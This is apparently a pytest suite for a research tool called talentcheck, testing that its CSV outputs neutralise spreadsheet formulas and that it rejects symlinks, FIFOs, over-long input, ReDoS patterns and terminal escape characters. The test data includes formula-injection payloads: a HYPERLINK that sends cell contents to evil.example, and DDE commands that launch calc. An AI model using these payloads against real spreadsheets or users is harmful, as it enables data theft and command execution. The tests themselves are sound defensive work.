"""Outputs safe to open and a resolver that trusts nothing it reads: every CSV the suite writes for a reader
(verdicts.csv, `talentcheck neurips resolve`) shows a cell that begins like a spreadsheet formula as text and keeps
a line break inside its cell; `resolve` answers line by line in bounded memory, and a closed or undecodable
standard input is one line; the reviewed table's patterns are compiled, probed and searched with a time bound."""
import csv
import io
import os
import shutil
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpers import set_cell
from talentcheck import cli
from talentcheck.data.files import FORMULA_START, csv_line, spreadsheet_safe
from talentcheck.neurips.resolver import matcher
from talentcheck.neurips.resolver.resolve import resolver_for, stdin_lines, write_csv
from talentcheck.run.results import write_verdicts

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x",
            "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "\n=1+1"]

ABSENT = "/nonexistent-talentcheck-raw"
"""A raw folder that is not there (a user's clone has none)."""


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_begins_like_a_formula_is_shown_as_text(payload):
    assert spreadsheet_safe(payload) == "'" + payload
    assert read_back(csv_line(["claim", payload])) == [["claim", "'" + payload]]


@pytest.mark.parametrize("plain", ["-5", "+3", "-0.25", "1e-3", "-1.5E+09", "text", "", "'=already text", " =spaced"])
def test_a_plain_number_or_text_is_left_as_it_is(plain):
    assert spreadsheet_safe(plain) == plain
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None


@given(st.lists(st.text(alphabet=st.sampled_from(list("ab,\"'=+-@\t\r\n 1.e")), max_size=12), min_size=1, max_size=5))
def test_any_row_reads_back_as_one_row_of_its_cells_none_a_formula(cells):
    """Whatever the cells hold (commas, quotes, a lone CR, formula characters), the line reads back as one row
    of the same cells, each either as given or with the quote in front that makes it text."""
    [row] = read_back(csv_line(cells))
    assert row == [spreadsheet_safe(c) for c in cells]
    assert not any(c.startswith(FORMULA_START) and c != spreadsheet_safe(c) for c in row)
    assert [c for c in row if c[:1] in FORMULA_START] == [c for c in row if c[:1] in FORMULA_START and spreadsheet_safe(c) == c]


def test_verdicts_csv_neutralises_a_claims_words_and_keeps_line_breaks_in_their_cells(tmp_path):
    row = {"claim_id": "x-1", "verdict": "supported", "stated": "=HYPERLINK(\"http://evil.example\")", "observed": "-3",
           "unit": "@SUM(A1)", "reason": "first line\rsecond\nthird, \"quoted\"", "notebook": "01_researcher_origin.ipynb",
           "parameters": "{}", "figures": "{}", "against": "{}"}
    write_verdicts([row], tmp_path / "verdicts.csv")
    with open(tmp_path / "verdicts.csv", newline="", encoding="utf-8") as handle:
        [back] = list(csv.DictReader(handle))
    assert back["stated"] == "'" + row["stated"] and back["unit"] == "'@SUM(A1)" and back["observed"] == "-3"
    assert back["reason"] == row["reason"]  # the CR and LF stay inside the cell
    assert (tmp_path / "verdicts.csv").read_bytes().count(b"\n") == 1 + 2  # the header, the row's end, the LF inside


# ------------------------------------------------------------------------------- talentcheck neurips resolve

@pytest.fixture
def resolver():
    return resolver_for(Path(ABSENT))  # the reviewed table only, as in a user's clone


def test_resolve_echoes_no_formula_and_quotes_a_carriage_return(capsys):
    assert cli.main(["neurips", "resolve", "=cmd|' /C calc'!A0", "Tsinghua\rUniversity", "--raw", ABSENT]) == 0
    out = capsys.readouterr().out
    rows = read_back(out)
    assert rows[0] == ["raw", "institution", "country", "sector"]
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[2][0] == "Tsinghua\rUniversity" and len(rows) == 3


def test_resolve_writes_each_strings_rows_before_it_reads_the_next(resolver):
    """Line in, rows out: the rows of the first string are written (and flushed) before the second is read."""
    out = io.StringIO()
    seen = []

    def strings():
        yield "Tsinghua University"
        seen.append(out.getvalue())
        yield "Peking University"
    write_csv(strings(), resolver, out)
    assert "Tsinghua University,Tsinghua University,CHN,university" in seen[0]
    assert "Peking" not in seen[0] and "Peking University,Peking University,CHN" in out.getvalue()


def test_a_resolvers_memory_stays_bounded_on_a_stream_of_new_strings(resolver, monkeypatch):
    monkeypatch.setattr(matcher, "REMEMBERED", 50)
    write_csv((f"Laboratory {i} of Nowhere" for i in range(400)), resolver, io.StringIO())
    assert len(resolver.cache) <= 50 and len(resolver.looked_up) <= 50


@pytest.mark.parametrize("stdin, message", [
    (None, "standard input is closed: give the affiliations as arguments, or one per line on standard input"),
    (io.TextIOWrapper(io.BytesIO(b"Tsinghua University\nbad \xff byte\n")), "standard input, line 2: not UTF-8 text (byte 5)"),
], ids=["closed", "not-utf8"])
def test_a_closed_or_undecodable_stdin_is_one_line(monkeypatch, capsys, stdin, message):
    monkeypatch.setattr(sys, "stdin", stdin)
    assert cli.main(["neurips", "resolve", "--raw", ABSENT]) == 2
    err = capsys.readouterr().err
    assert err.endswith(f"talentcheck: error: {message}\n") and err.count("talentcheck: error") == 1, err


def test_stdin_lines_reads_one_line_at_a_time():
    stdin = io.TextIOWrapper(io.BytesIO(b"a\r\nb\n"))
    lines = stdin_lines(stdin)
    assert next(lines) == "a" and list(lines) == ["b"]


# ------------------------------------------------------------------------------- the reviewed table's patterns

def test_a_pattern_that_backtracks_on_a_name_is_named_by_file_row_and_column(data_copy, capsys):
    """A pattern validate's probes pass (runs of one letter) but that backtracks without end on "xyxy...":
    the search is cut at the time bound and the one line names the row, not a hang."""
    set_cell(data_copy / "neurips" / "institution_names.csv", {"institution": "DeepMind"}, "names", "(xy|xyxy)+z")
    assert cli.main(["validate"]) == 0
    capsys.readouterr()
    assert cli.main(["neurips", "resolve", "xy" * 30, "--raw", ABSENT]) == 2
    err = capsys.readouterr().err.splitlines()[-1].replace(f"{data_copy.parent}/", "")
    assert err.startswith("talentcheck: error: data/neurips/institution_names.csv, row 2, column names: the pattern "
                          "'(xy|xyxy)+z' took over 0.5 s on 'xyxyxy"), err


# ------------------------------------------------------------------------------- previous outputs verified

XAI = "06_xai_founders.ipynb"
SECRET = "root:x:0:0:SECRET-LINE"


@pytest.fixture
def published(tmp_path):
    """An output folder as a run published it: the committed notebooks' executed copies, with the manifest
    recording their checksums."""
    from talentcheck import paths
    from talentcheck.run import manifest
    from talentcheck.run.publishing import MARK, MARKER

    out = tmp_path / "out"
    (out / "notebooks").mkdir(parents=True)
    (out / MARKER).write_text(MARK)
    for source in paths.notebooks():
        (out / "notebooks" / source.name).write_bytes(source.read_bytes())
    manifest.record(out, None, [])
    (tmp_path / "secret.txt").write_text(SECRET)
    return out


def edit_verdict(out):
    path = out / "notebooks" / XAI
    path.write_text(path.read_text(encoding="utf-8").replace('"supported_with_caveat"', '"not_supported"'), encoding="utf-8")


def folder_link(out):
    elsewhere = out.parent / "elsewhere"
    (out / "notebooks").rename(elsewhere)
    (out / "notebooks").symlink_to(elsewhere)


def replace_with(make):
    def corrupt(out):
        path = out / "notebooks" / XAI
        path.unlink()
        make(path, out)
    return corrupt


UNVOUCHED = "is not vouched for by a checksum in .talentcheck-manifest.json"
PREVIOUS = [  # (id, what is done to the published output, what the problem with 06 says, and with the others if any)
    ("edited-verdict", edit_verdict, "does not match the checksum its run recorded in .talentcheck-manifest.json (edited since)", None),
    ("invalid-json", lambda out: (out / "notebooks" / XAI).write_text('{"cells": [' + SECRET), "does not match the checksum", None),
    ("link-to-secret", replace_with(lambda path, out: path.symlink_to(out.parent / "secret.txt")),
     "is a link, which a run does not follow", None),
    ("link-to-itself", replace_with(lambda path, out: path.symlink_to(path)), "is a link", None),
    ("a-folder", replace_with(lambda path, out: path.mkdir()), "is not a regular file", None),
    ("a-fifo", replace_with(lambda path, out: os.mkfifo(path)), "is not a regular file", None),  # never opened: it would block
    ("folder-is-a-link", folder_link, "lies in a folder that is a link", "lies in a folder that is a link, which a run does not follow"),
    ("manifest-is-a-link", lambda out: (out / ".talentcheck-manifest.json").unlink() or
     (out / ".talentcheck-manifest.json").symlink_to(out.parent / "secret.txt"), UNVOUCHED, UNVOUCHED),
    ("manifest-edited-json", lambda out: (out / ".talentcheck-manifest.json").write_text("{" + SECRET), UNVOUCHED, UNVOUCHED),
    ("manifest-files-not-a-mapping", lambda out: (out / ".talentcheck-manifest.json").write_text('{"files": [1, 2]}'),
     UNVOUCHED, UNVOUCHED),
    ("manifest-gone", lambda out: (out / ".talentcheck-manifest.json").unlink(), UNVOUCHED, UNVOUCHED),
]


@pytest.mark.parametrize("corrupt, problem, others", [c[1:] for c in PREVIOUS], ids=[c[0] for c in PREVIOUS])
def test_a_previous_result_that_cannot_be_trusted_is_named_never_quoted(published, tiny, corrupt, problem, others):
    """What a partial run would carry over from DIR/notebooks/ is checked against the manifest's checksums, read
    without following a link; what fails is named (the run executes it again), and nothing of it is quoted."""
    from talentcheck.run import results

    assert results.unverified(published, [tiny]) == {}  # as published: every result is vouched for
    corrupt(published)
    found = {path.name: why for path, why in results.unverified(published, [tiny]).items()}
    assert problem in found.pop(XAI)
    assert SECRET not in str(found)
    assert set(found.values()) <= ({others} if others else set()) and (not others or len(found) == 8)


def test_a_result_that_changes_after_the_check_is_refused_naming_it(published, tiny, tmp_path):
    """Between the check and the copy (a run takes minutes), a result that changes is refused, not published."""
    from talentcheck.errors import RunError
    from talentcheck.run import results

    assert results.unverified(published, [tiny]) == {}
    edit_verdict(published)
    (tmp_path / "staging" / "notebooks").mkdir(parents=True)
    with pytest.raises(RunError, match=rf"/out/notebooks/{XAI} does not match the checksum .* run 06_xai_founders again"):
        results.carry_over(published, tmp_path / "staging", {tiny.name})


def test_the_results_carried_over_are_the_bytes_checked(published, tiny, tmp_path):
    from talentcheck.run import results

    (tmp_path / "staging" / "notebooks").mkdir(parents=True)
    kept = results.carry_over(published, tmp_path / "staging", {tiny.name})
    assert (tmp_path / "staging" / "notebooks" / XAI).read_bytes() == (published / "notebooks" / XAI).read_bytes()
    assert XAI in kept


def test_the_pattern_that_hung_resolve_is_refused_by_validate_and_by_resolve_at_once(data_copy, capsys):
    """`(a+)+b`, which hung `resolve` under Python's re: validate names it, and resolve, which checks the table it
    loads, stops at once with the same line instead of hanging."""
    import time

    set_cell(data_copy / "neurips" / "institution_names.csv", {"institution": "DeepMind"}, "names", "(a+)+b")
    line = ("data/neurips/institution_names.csv, row 2, column names: '(a+)+b' is a regular expression whose search of "
            "'aaaaaaaaaaaa'... takes over 0.5 s")
    for args in (["validate"], ["neurips", "resolve", "a" * 5000, "--raw", ABSENT]):
        start = time.perf_counter()
        assert cli.main(args) == 2
        assert time.perf_counter() - start < 10
        assert capsys.readouterr().err.splitlines()[-1].endswith(line)


@pytest.mark.parametrize("stdin, message", [
    (b"Tsinghua University\n" + b"x" * 20_000 + b"\n", "standard input, line 2: longer than 10,000 characters"),
    ("\u00e9".encode() * 30_000, "standard input, line 1: longer than 10,000 characters"),  # no line end, two bytes each
    (b"A" * 100_000, "standard input, line 1: longer than 10,000 characters"),
], ids=["long-line", "long-multibyte-unended", "long-unended"])
def test_a_line_longer_than_any_affiliation_is_refused_not_held(monkeypatch, capsys, stdin, message):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stdin)))
    assert cli.main(["neurips", "resolve", "--raw", ABSENT]) == 2
    assert capsys.readouterr().err.splitlines()[-1] == f"talentcheck: error: {message} (one affiliation string is expected per line)"


def test_an_argument_longer_than_any_affiliation_is_refused(capsys):
    assert cli.main(["neurips", "resolve", "ok", "y" * 10_001, "--raw", ABSENT]) == 2
    assert capsys.readouterr().err.endswith("talentcheck: error: argument 2: longer than 10,000 characters "
                                            "(one affiliation string is expected per line)\n")


@pytest.mark.parametrize("planted", ["sha256.json", "90_tiny.ipynb"])
def test_a_fifo_or_link_planted_in_the_cache_or_the_output_is_not_opened(tmp_path, monkeypatch, planted):
    """A FIFO would block every read of it for good; a link would read a file elsewhere. Neither is opened."""
    from talentcheck.run import cache, manifest

    monkeypatch.setenv("TALENTCHECK_CACHE", str(tmp_path / "cache"))
    entry = tmp_path / "cache" / ("a" * 64)
    entry.mkdir(parents=True)
    (entry / "sha256.json").write_text("{}")
    (entry / "90_tiny.ipynb").write_text("{}")
    (entry / planted).unlink()
    os.mkfifo(entry / planted)
    assert cache.checksums("a" * 64, ["90_tiny.ipynb"]) is None
    (entry / planted).unlink()
    (entry / planted).symlink_to(tmp_path / "elsewhere")
    assert cache.checksums("a" * 64, ["90_tiny.ipynb"]) is None
    out = tmp_path / "out"
    out.mkdir()
    os.mkfifo(out / manifest.NAME)
    assert manifest.unchanged(out, {}, "digest") is None and manifest.recorded_files(out) == {}
    os.mkfifo(tmp_path / "cache" / cache.VALIDATED)
    os.mkfifo(tmp_path / "cache" / cache.DURATIONS)
    assert not cache.validated("digest") and cache.durations() == {}


def test_a_fetch_onto_a_full_disk_leaves_neither_a_part_nor_a_truncated_file(tmp_path, monkeypatch):
    """ENOSPC injected at the write layer (`helpers.full_disk`) while a pinned file is copied from a mirror: the
    error is an OSError (one line, exit 2, from the command), and the folder holds nothing half-written; with room,
    the same fetch works."""
    from helpers import full_disk
    from talentcheck import hashing
    from talentcheck.neurips import fetch

    path = "github/owner/repo/" + "0" * 40 + "/list.json"
    (tmp_path / "mirror" / path).parent.mkdir(parents=True)
    (tmp_path / "mirror" / path).write_text("[1, 2, 3]" * 1000)
    sha = hashing.file_sha256(tmp_path / "mirror" / path)
    full_disk(monkeypatch, tmp_path / "to", room=100)
    monkeypatch.setattr(shutil, "_USE_CP_SENDFILE", False)  # copy through write(), where the fault is injected
    with pytest.raises(OSError, match="No space left on device"):
        fetch.fetch_file(path, sha, tmp_path / "to", str(tmp_path / "mirror"), progress=False)
    assert [p for p in (tmp_path / "to").rglob("*") if p.is_file()] == []
    monkeypatch.undo()
    assert hashing.file_sha256(fetch.fetch_file(path, sha, tmp_path / "to", str(tmp_path / "mirror"), progress=False)) == sha


def test_resolve_shows_a_control_or_direction_character_as_its_escape(capsys):
    """An affiliation string echoed to a terminal cannot recolour it or reverse the text after it."""
    assert cli.main(["neurips", "resolve", "Tsing\u202ehua University\x1b[31m", "Peking\tUniversity", "--raw", ABSENT]) == 0
    rows = read_back(capsys.readouterr().out)
    assert rows[1][0] == "Tsing\\u202ehua University\\x1b[31m"
    assert rows[2][0] == "Peking\tUniversity"  # a tab stays in its cell
    assert not any(c == "\x1b" or c == "\u202e" for row in rows for cell in row for c in cell)
